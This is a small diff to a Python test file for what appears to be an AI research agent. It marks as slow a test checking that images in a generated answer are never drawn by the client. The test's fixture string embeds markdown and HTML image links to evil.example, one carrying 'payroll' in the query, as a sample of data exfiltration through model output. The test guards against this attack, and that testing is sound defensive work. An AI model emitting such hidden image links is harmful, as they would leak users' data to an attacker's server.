@@ -100,6 +100,7 @@ async def test_a_program_researches_with_progress_and_checked_citations(here: Pa
     assert messages[-1] is not None
 
 
+@pytest.mark.slow
 async def test_no_picture_of_an_answer_is_drawn_by_a_client(here: Path):
     hidden = "![x](https://evil.example/?q=payroll) <img src=https://evil.example/2>"
     script = [plan(), answer(f'<cite id="S1">It is unbounded.</cite> {hidden}'), SUPPORTED]
